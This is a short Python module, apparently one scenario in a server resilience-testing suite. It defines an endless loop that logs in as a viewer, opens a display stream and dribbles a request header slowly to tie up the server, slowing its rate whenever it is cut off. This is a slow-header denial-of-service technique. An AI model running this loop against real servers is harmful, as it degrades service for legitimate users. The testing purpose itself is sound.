"""A header in crumbs from a viewer, who may send far more than somebody unknown."""

import itertools
import time

import wire
from header_crumbs import BUILD_UP, RATE_FIRST, RATE_MIN, SLOWER, crumble
from target import Cut

WAYS = ("tls", "plain")
ROLE = "viewer"
FLOOR = {"frames": 500}


def attack(target):
    rate = RATE_FIRST
    for number in itertools.count():
        began = time.monotonic()
        try:
            with target.connect(number) as connection:
                connection.open_call(wire.STREAM_DISPLAY, wire.stream_start(target.display), False,
                                     target.credentials())
                crumble(target, connection, rate, began + BUILD_UP * target.seconds)
        except Cut:
            target.cut()
            rate = max(RATE_MIN, rate * SLOWER)
